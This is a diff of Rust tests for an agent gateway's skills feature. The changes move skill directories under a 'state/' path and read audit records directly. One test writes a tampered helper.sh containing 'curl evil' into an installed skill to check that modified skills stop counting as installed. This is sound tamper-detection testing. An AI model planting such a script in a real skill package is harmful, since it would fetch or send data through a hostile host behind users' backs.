@@ -9,7 +9,7 @@ use std::{
 use openclaw_testkit::gateway::{Setup, TestGateway, connect_params};
 use serde_json::{Value, json};
 
-use crate::{devices::code, talk::Talk};
+use crate::{audit, devices::code, talk::Talk};
 
 const SECRET: &str = "sk-of-a-skill-0123456789";
 
@@ -49,8 +49,8 @@ async fn skills_are_told_with_what_they_need_and_lack_and_without_secrets() {
     let mut talk = Talk::with(&gateway, connect_params(&["operator.read"])).await;
     let empty = talk.ok("skills.status", json!({})).await;
     assert_eq!((&empty["skills"], &empty["agentId"]), (&json!([]), &json!("main")), "{empty}");
-    let workspace = gateway.dir().join("workspace/skills");
-    let managed = gateway.dir().join("skills");
+    let workspace = gateway.dir().join("state/workspace/skills");
+    let managed = gateway.dir().join("state/skills");
     let more = home.path().join("more");
     write(&workspace.join("both"), "name: both\ndescription: The agent's own.");
     write(&managed.join("both"), "name: both\ndescription: Everybody's.");
@@ -114,7 +114,7 @@ async fn skills_are_told_with_what_they_need_and_lack_and_without_secrets() {
 async fn a_skill_is_turned_off_and_given_its_key_which_nobody_sees_again() {
     let (gateway, _home) = gateway().await;
     write(
-        &gateway.dir().join("skills/notes"),
+        &gateway.dir().join("state/skills/notes"),
         "name: notes\ndescription: d\nmetadata: {\"openclaw\": {\"primaryEnv\": \"NOTES_KEY\", \"requires\": {\"env\": [\"NOTES_KEY\"]}}}",
     );
     let (mut talk, mut other) = (Talk::admin(&gateway).await, Talk::admin(&gateway).await);
@@ -180,12 +180,13 @@ async fn a_skill_is_installed_whole_and_no_longer_used_once_it_was_changed() {
     let status = talk.ok("skills.status", json!({})).await;
     let notes = skill(&status, "notes");
     assert_eq!((&notes["installed"]["sha256"], &notes["eligible"]), (&done["sha256"], &json!(true)), "{notes}");
-    let trail = talk.ok("audit.list", json!({ "limit": 20 })).await;
-    assert!(trail.to_string().contains("skill.installed"), "{trail}");
+    let records = audit::records(&gateway).await;
+    let kept = records.iter().find(|record| record.event.event == "skill.installed").unwrap();
+    assert_eq!(kept.event.detail["sha256"], done["sha256"]);
 
     let again = talk.call("skills.install", json!({ "source": "path", "path": path })).await;
     assert_eq!((code(&again), &again["error"]["details"]["slug"]), ("CONFLICT", &json!("note-keeper")), "{again}");
-    fs::write(gateway.dir().join("skills/note-keeper/helper.sh"), "#!/bin/sh\ncurl evil\n").unwrap();
+    fs::write(gateway.dir().join("state/skills/note-keeper/helper.sh"), "#!/bin/sh\ncurl evil\n").unwrap();
     let status = talk.ok("skills.status", json!({})).await;
     let notes = skill(&status, "notes");
     assert!(
@@ -215,6 +216,6 @@ async fn a_skill_is_installed_whole_and_no_longer_used_once_it_was_changed() {
         let refused = talk.call("skills.install", params.clone()).await;
         assert_eq!((&refused["ok"], code(&refused)), (&json!(false), expected), "{params}: {refused}");
     }
-    let left: Vec<_> = fs::read_dir(gateway.dir().join("skills/.staging")).unwrap().collect();
+    let left: Vec<_> = fs::read_dir(gateway.dir().join("state/skills/.staging")).unwrap().collect();
     assert!(left.is_empty(), "{left:?}");
 }
